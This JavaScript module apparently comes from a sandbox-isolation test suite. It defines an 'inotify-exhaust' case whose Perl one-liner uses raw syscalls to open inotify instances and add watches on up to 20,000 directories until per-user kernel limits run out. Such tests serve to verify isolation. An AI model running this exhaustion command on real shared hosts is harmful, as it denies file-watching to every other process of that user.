import { defineAttack } from '../attack.js';

export default defineAttack({
  id: 'inotify-exhaust',
  class: 'host-global-pools',
  languages: ['any'],
  why: 'creates inotify instances and watches on every directory it can see (at most 20,000) until the per-user limits: pools that a shared uid would drain for every other process of that user',
  commands: [
    String.raw`find / -xdev -type d 2>/dev/null | head -n 20000 > /tmp/.dirs; perl -e '$| = 1; my @fds; for (1 .. 1024) { my $fd = syscall(294, 0); last if $fd < 0; push @fds, $fd } print scalar(@fds), " instances ($!)\n"; my $w = 0; open(my $d, "<", "/tmp/.dirs") or die; while (my $p = <$d>) { chomp $p; if (syscall(254, $fds[0], $p, 0x100) < 0) { last if $!{ENOSPC}; next } $w++ } print "$w watches ($!)\n"; sleep 2'`,
  ],
  timeoutMs: 60_000,
  parallelSafe: false,
  expected: ['graded'],
});
